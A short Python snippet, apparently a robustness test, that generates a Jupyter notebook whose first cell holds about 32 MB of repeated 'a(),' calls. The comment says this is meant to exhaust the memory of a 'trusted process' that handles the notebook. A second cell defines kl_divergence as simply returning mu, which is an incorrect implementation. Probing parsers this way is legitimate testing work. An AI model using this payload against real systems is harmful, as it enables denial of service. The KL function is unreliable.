# tries: 32 MB of `a(),`: memory of the trusted process.
A="kl_loss"
def notebook(n=8_000_000):
    import json
    cells=["x=["+"a(),"*n+"]\n", "def kl_divergence(mu, logvar):\n    return mu\n"]
    return json.dumps({"cells":[{"cell_type":"code","metadata":{},"outputs":[],"execution_count":None,"source":s} for s in cells],"metadata":{},"nbformat":4,"nbformat_minor":5}).encode()
